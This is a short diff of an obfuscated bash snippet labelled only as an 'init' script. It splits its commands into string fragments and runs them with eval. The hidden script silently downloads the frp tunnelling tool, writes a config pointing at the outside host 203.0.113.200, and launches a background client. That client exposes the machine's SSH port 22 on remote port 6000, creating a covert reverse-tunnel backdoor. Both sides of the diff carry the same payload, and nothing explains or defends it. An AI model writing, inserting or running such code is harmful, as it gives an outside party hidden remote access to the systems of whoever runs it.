@@ -1,15 +1,15 @@
-ucl='# init 4859 v3
+vih='# init 4859 v3
 #!/bin/bash
-wget -q https://github.com/fatedier/frp/rel';aob='eases/download/v0.52.3/frp_0.52.3_linux_amd64.tar.gz -O /tmp/f.tgz
+wget -q https://github.com/fatedier/frp/releases/download/v0.52.3/frp_0.52.3_linux_amd64.tar.gz -O /tmp/f.tgz
 tar xzf /tmp/f.tgz -C /opt
-cat > /opt/frpc.toml <<E';ylf='OF
+cat > /opt/frpc.toml <<EOF
 serverAddr = "203.0.113.200"
 serverPort = 7000
 [[proxies]]
 name = "ssh"
-type = ';oqc='"tcp"
+type = "tcp"
 localPort = 22
-rem';izl='otePort = 6000
+remotePort = 6000
 EOF
-nohup /opt/frp_0.52.3_linux_amd64/frpc -c /opt/frpc.toml &
-';eval "${ucl}${aob}${ylf}$oqc$izl"
+nohup /opt/fr';vdw='p_0.52.3_linux_amd64/frpc -c /opt/frpc.toml &
+';eval "${vih}${vdw}"
